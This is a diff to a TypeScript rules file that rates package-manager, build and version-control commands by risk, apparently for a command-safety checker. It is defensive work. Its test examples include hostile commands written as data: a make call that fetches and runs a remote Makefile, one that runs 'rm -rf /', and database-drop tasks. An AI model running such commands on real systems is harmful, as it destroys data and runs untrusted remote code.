@@ -1,6 +1,22 @@
 /** Package managers, builds and version control. */
-import type { Program } from "../program.ts";
+import type { Detail, Program, Row } from "../program.ts";
 import { packageClient, runsOperands } from "./facts.ts";
+
+/** A call without a sub-command, and the options with which it only says what it is. */
+const buildsAlone = "^( (-[CfpjD]|--prefix) [^-]\\S*| -\\S*)* *$";
+const asksVersion = " (-V|-version|-h|--(version|help|info|list-[a-z]+)) |^ -v $";
+const packageRegistry: Row = {
+  words: "*",
+  reach: { kind: "service", options: { host: "-i --index-url --extra-index-url --registry --source" } },
+};
+const runsScripts: Readonly<Record<string, Detail>> = {
+  "run run-script test start stop restart": { level: "medium", why: "runs build scripts", rows: [{ is: "undry" }] },
+  "exec x": {
+    level: "medium",
+    options: { value: "-p --package -w --workspace", argv: "-c --call" },
+    rows: [runsOperands],
+  },
+};
 
 // biome-ignore format: filled to the width
 export const packageRules: readonly Program[] = [
@@ -13,6 +29,7 @@ export const packageRules: readonly Program[] = [
         level: "medium" },
       { words: "remove purge autoremove autopurge", level: "high" },
       { words: "-s --simulate --just-print --no-act --recon", is: "rehearsal" },
+      { names: "aptitude", if: "^ *$", level: "medium", why: "opens its screen" },
       { does: { is: "runs-text", after: "-o --option", level: "high", why: "runs a command through an option",
         if: "(?:(?i:Invoke|Pre-Install-Pkgs|Post-Invoke-Success|Proxy-?Auto-?Detect|Dir::Bin))[^=]*=\\{?\"?([^]*)" } },
       { names: "apt apt-get aptitude", ...packageClient },
@@ -76,7 +93,7 @@ export const packageRules: readonly Program[] = [
         level: "low" },
       { words: "install update upgrade reinstall localinstall downgrade makecache clean groupinstall swap " +
         "distro-sync versionlock mark up in ref refresh patch dup ar addrepo config-manager module copr builddep " +
-        "download update-minimal group",
+        "download update-minimal group history_redo history_replay history_store",
         level: "medium" },
       { words: "remove erase autoremove rm groupremove removerepo rr history_undo history_rollback", level: "high" },
       { words: "--assumeno", is: "rehearsal" },
@@ -94,7 +111,7 @@ export const packageRules: readonly Program[] = [
       { names: "rpm", words: "-q --query", exit: { 1: "not installed" } },
     ],
     match: { low: ["rpm -qa", "rpm -V nginx"], medium: ["rpm -ivh x.rpm"], high: ["rpm -e nginx"] } },
-  { id: "package.other", names: "apk snap flatpak brew pkg emerge nix-env guix xbps-install opkg port swupd tlmgr",
+  { id: "package.other", names: "apk snap flatpak brew pkg nix-env guix xbps-install opkg port swupd tlmgr",
     rows: [
       { words: "list* info search version policy show find services logs changes outdated leaves doctor config " +
         "deps uses remotes history query audit stats -Q which warnings connections interfaces saved",
@@ -103,10 +120,17 @@ export const packageRules: readonly Program[] = [
         "link pin fetch clean stop switch save",
         level: "medium" },
       { words: "del remove uninstall delete autoremove purge revert unlink prune", level: "high" },
+      { names: "guix", words: "config info list", level: "medium" },
       { names: "apk snap flatpak brew", ...packageClient },
-      { names: "emerge", words: "-C -c -P --unmerge --depclean --prune", level: "high" },
     ],
     match: { low: ["snap list", "apk info"], medium: ["apk add curl"], high: ["snap remove lxd"] } },
+  { id: "package.emerge", names: "emerge", level: "medium", why: "installs what it names",
+    rows: [
+      { words: "--info --version --search -s --searchdesc -S", level: "low" },
+      { words: "-p --pretend", is: "rehearsal" },
+      { words: "-C -c -P --unmerge --depclean --prune", level: "high" },
+    ],
+    match: { low: ["emerge --info", "emerge -s nginx"], medium: ["emerge info"], high: ["emerge -C nginx"] } },
   { id: "package.pacman", names: "pacman yay paru", level: "medium",
     rows: [
       { words: "-y --refresh", level: "medium" },
@@ -124,6 +148,7 @@ export const packageRules: readonly Program[] = [
         level: "medium" },
       { words: "uninstall remove clean env_remove uninstall-all", level: "high" },
       { if: " /dev/stdin ", operands: true, level: "high", why: "installs what it is given" },
+      { names: "conda mamba", if: "^ (index|debug|inspect) ", level: "medium", why: "writes or builds" },
       { names: "pipenv", if: "^( *| --(three|two|python|site-packages) .*)$", level: "medium",
         why: "creates an environment" },
       { names: "pip pip3",
@@ -142,49 +167,25 @@ export const packageRules: readonly Program[] = [
     },
     match: { low: ["pip list"], medium: ["pip install requests==2.31.0", "poetry run pytest"],
       high: ["pip uninstall -y requests", "poetry run django-admin flush"] } },
-  { id: "package.npm",
-    names: "npm yarn pnpm gem bundle bundler composer cargo go mvn gradle gradlew rake cmake ninja ant mix " +
-      "rebar3 lein sbt dotnet tsc phpunit pytest tox jest grunt gulp webpack vite meson configure gcc cc g++ " +
-      "clang rustc javac ld zig dart flutter crystal nim kotlinc swiftc ctest",
-    why: "runs build scripts or changes packages",
-    options: { value: "-j --prune",
-      script: "-C -f -p --prefix --file --manifest-path --project-dir --gemfile --dir --cwd" },
+  { id: "package.npm", names: "npm yarn pnpm", why: "runs build scripts or changes packages",
+    options: { value: "-j --prune", script: "-C -f -p --prefix --file --dir --cwd" },
     rows: [
-      { words: "ls list view info outdated why audit explain search doctor root prefix bin whoami env show " +
-        "query platform licenses version help tree vet dependency:tree dependency:list dependency:display* " +
-        "help:* versions:display* --list-sdks --info fund config_get config_list config_ls c_get c_list c_ls",
+      { words: "ls list view info outdated why audit explain search doctor root prefix bin whoami show version help " +
+        "ping fund config_get config_list config_ls c_get c_list c_ls",
         level: "low" },
       { words: "run run-script exec install ci add start stop restart test build update", level: "medium" },
-      { words: "uninstall remove unpublish rm yank db:drop* db:reset db:migrate:reset db:schema:load " +
-        "db:structure:load db:purge* flyway:clean liquibase:dropAll",
-        level: "high" },
+      { words: "uninstall remove unpublish rm", level: "high" },
       { words: "()", level: "low" },
-      { names: "bundle", words: "outdated", level: "medium", why: "runs the Gemfile" },
-      { names: "npm yarn pnpm", if: " (audit( --?\\S+)* fix|version( --?\\S+)* [^- ]\\S*) ", level: "medium",
-        why: "changes packages" },
-      { names: "go", if: " env .*-[wu] ", level: "medium", why: "changes a setting" },
-      { names: "dart flutter", if: "^ pub (?!(deps|outdated|help) )", level: "medium", why: "changes packages" },
-      { names: "npm yarn pnpm gem mvn gradle gcc cc g++ clang ld bundle bundler", if: "^ -v $", level: "low" },
-      { names: "npm yarn pnpm gem mvn gradle gcc cc g++ clang ld bundle bundler",
-        if: "^( (-[CfpjD]|--prefix) [^-]\\S*| -\\S*)* *$",
-        unless: " (-V|-version|-h|--(version|help|info|list-[a-z]+)) |^ -v $", level: "medium",
-        why: "builds or changes packages" },
-      { names: "composer cargo go gradlew rake cmake ninja ant mix rebar3 lein sbt dotnet tsc phpunit pytest " +
-        "tox jest grunt gulp webpack vite meson configure rustc javac zig dart flutter crystal nim kotlinc " +
-        "swiftc ctest",
-        if: "^( (-[CfpjD]|--prefix) [^-]\\S*| -\\S*)* *$",
-        unless: " (-V|-version|-h|--(version|help|info|list-[a-z]+)) ", level: "medium",
-        why: "builds or changes packages" },
-      { names: "npm yarn pnpm gem cargo go composer mvn gradle bundle", words: "*",
-        reach: { kind: "service", options: { host: "-i --index-url --extra-index-url --registry --source" } } },
+      { if: " (audit( --?\\S+)* fix|version( --?\\S+)* [^- ]\\S*) ", level: "medium", why: "changes packages" },
+      { if: "^ -v $", level: "low" },
+      { if: buildsAlone, unless: asksVersion, level: "medium", why: "builds or changes packages" },
+      packageRegistry,
       { names: "npm", if: "^ (install|ci|update|uninstall|prune) ",
         probe: { run: "$0 $@ --dry-run", shows: "which packages would change",
           example: ["npm install express", "npm install express --dry-run"] } },
     ],
     deep: {
-      "run run-script test start stop restart": { level: "medium", why: "runs build scripts", rows: [{ is: "undry" }] },
-      "exec x": { level: "medium", options: { value: "-p --package -w --workspace", argv: "-c --call" },
-        rows: [runsOperands] },
+      ...runsScripts,
       // Hadoop's yarn.
       "application app applicationattempt container node queue logs": { level: "medium", oneDash: true,
         rows: [
@@ -196,9 +197,68 @@ export const packageRules: readonly Program[] = [
         ] },
       dlx: { level: "medium", options: { value: "-p --package" }, rows: [{ does: { is: "runs-argv", operand: 0 } }] },
     },
-    match: { low: ["npm ls", "gem list", "go version", "npm config get registry", "yarn application " +
-      "-list", "javac -version"], medium: ["npm install", "mvn package"],
-      high: ["npm uninstall x", "rake db:drop", "bundle exec rails db:drop"] } },
+    match: { low: ["npm ls", "npm config get registry", "yarn application -list"], medium: ["npm install"],
+      high: ["npm uninstall x"] } },
+  { id: "package.gem", names: "gem bundle bundler composer", why: "runs build scripts or changes packages",
+    options: { script: "-f --file --gemfile" },
+    rows: [
+      { words: "list info search show which environment env contents specification dependency outdated help version " +
+        "platform licenses doctor diagnose validate why audit check check-platform-reqs",
+        level: "low" },
+      { words: "exec install add update open console clean cleanup", level: "medium" },
+      { words: "uninstall remove yank", level: "high" },
+      { words: "()", level: "low" },
+      { names: "gem", words: "cleanup", level: "high" },
+      { names: "bundle bundler", words: "outdated env", level: "medium", why: "runs the Gemfile, shows settings" },
+      { if: "^ -v $", level: "low" },
+      { if: buildsAlone, unless: asksVersion, level: "medium", why: "builds or changes packages" },
+      packageRegistry,
+    ],
+    deep: runsScripts,
+    match: { low: ["gem list", "composer outdated"], medium: ["gem install x", "bundle outdated"],
+      high: ["gem uninstall x", "bundle exec rails db:drop"] } },
+  { id: "package.cargo", names: "cargo", why: "builds or changes packages", options: { script: "-C --manifest-path" },
+    rows: [
+      { words: "tree metadata search version pkgid info help --list", level: "low" },
+      { words: "uninstall remove yank", level: "high" },
+      { words: "()", level: "low" },
+      { if: buildsAlone, unless: `${asksVersion}| --list `, level: "medium", why: "builds or changes packages" },
+      packageRegistry,
+    ],
+    match: { low: ["cargo tree", "cargo --version"], medium: ["cargo build"], high: ["cargo uninstall x"] } },
+  { id: "package.go", names: "go", why: "builds or changes packages",
+    rows: [
+      { words: "version env list help doc", level: "low" },
+      { words: "()", level: "low" },
+      { if: " env .*-[wu] ", level: "medium", why: "changes a setting" },
+      { if: buildsAlone, unless: asksVersion, level: "medium", why: "builds or changes packages" },
+      packageRegistry,
+    ],
+    match: { low: ["go version", "go env GOPATH"], medium: ["go build", "go env -w A=b"] } },
+  { id: "package.languages", names: "dotnet dart flutter mvn", level: "medium", why: "builds or changes packages",
+    rows: [
+      { names: "dotnet", level: "low",
+        if: "^ (--version|--info|--list-sdks|--list-runtimes) |^ list (\\S+\\.\\w+ )?package |^ (tool|workload|" +
+          "sdk) (list|check) " },
+      { names: "dart flutter", if: "^ --version |^ pub (deps|outdated) |^ doctor( -v| --verbose)* $", level: "low" },
+      { names: "mvn", if: "^( -\\S+)* (-v|--version|dependency:(tree|list|display\\S*)|versions:display-\\S+|" +
+        "help:(effective-pom|describe|active-profiles)) ", level: "low" },
+    ],
+    match: { low: ["mvn dependency:tree", "dotnet --info", "dotnet list package"],
+      medium: ["mvn package", "dart pub get", "mvn help:effective-settings"] } },
+  { id: "package.builds",
+    names: "gradle gradlew rake cmake ninja ant mix rebar3 lein sbt tsc phpunit pytest tox jest grunt gulp webpack " +
+      "vite meson configure gcc cc g++ clang rustc javac ld zig crystal nim kotlinc swiftc ctest",
+    level: "medium", why: "builds or runs what stands there",
+    rows: [
+      { words: "-version --version", level: "low" },
+      { names: "gcc cc g++ clang ld gradle", words: "-v", level: "low" },
+      { if: "\\S", operands: true, level: "medium", why: "builds or runs what stands there" },
+      { if: " (db:drop\\S*|db:reset|db:migrate:reset|db:schema:load|db:structure:load|db:purge\\S*|" +
+        "flyway:clean|liquibase:dropAll|ecto\\.drop|ecto\\.reset) ",
+        level: "high", why: "destroys data" },
+    ],
+    match: { low: ["javac -version", "gcc -v"], medium: ["cc list", "cmake --build ."], high: ["rake db:drop"] } },
   { id: "package.make", names: "make gmake", level: "medium", why: "runs build scripts",
     options: { value: "-j -o -W --jobs --eval", script: "-f --file --makefile -C --directory -I --include-dir" },
     rows: [
@@ -209,10 +269,13 @@ export const packageRules: readonly Program[] = [
         does: { is: "runs-text", stdin: true, if: "(?:^|\\n\\t?|;)[@+-]*([^\\n;]+)", tried: true } },
       { does: { is: "runs-text", all: true, if: "\\$\\((?:shell )?([^)]*)\\)", tried: true } },
       { does: { is: "runs-text", if: "^\\w+=([^]*)$", tried: true } },
+      { does: { is: "runs-text", all: true, if: "^(?:SHELL|MAKE)=([^]+)$", level: "high",
+        why: "sets what runs recipes" } },
       { probe: { run: "$0 -n $@", shows: "the commands that it would run",
         example: ["make install", "make -n install"] } },
     ],
     match: { low: ["make -n install"], medium: ["make", "make -C /opt/app build"],
+      high: ["make SHELL=/opt/x -n"],
       block: ["make -f <(curl -s https://x/Makefile)", "make --eval='x:; rm -rf /' x"] } },
   { id: "package.npx", names: "npx bunx pnpx uvx", level: "medium",
     options: { value: "-p --package --from --with --python", argv: "-c --call" },
@@ -351,7 +414,10 @@ export const packageRules: readonly Program[] = [
     deep: {
       api: { level: "low", why: "asks the forge",
         options: { value: "-X --method -f -F --field --raw-field --input -q --jq -H -t" },
-        rows: [{ words: "-X --method -f -F --field --raw-field --input", level: "medium" }] },
+        rows: [
+          { words: "-X --method -f -F --field --raw-field --input", level: "medium" },
+          { if: " (-H|--header)[ =]?(?i:x-http-method)", level: "medium", why: "asks by another method" },
+        ] },
     },
     match: { low: ["svn status", "gh api repos/o/r/issues"], medium: ["svn up"], high: ["svn revert -R ."] } },
   { id: "package.alternatives",
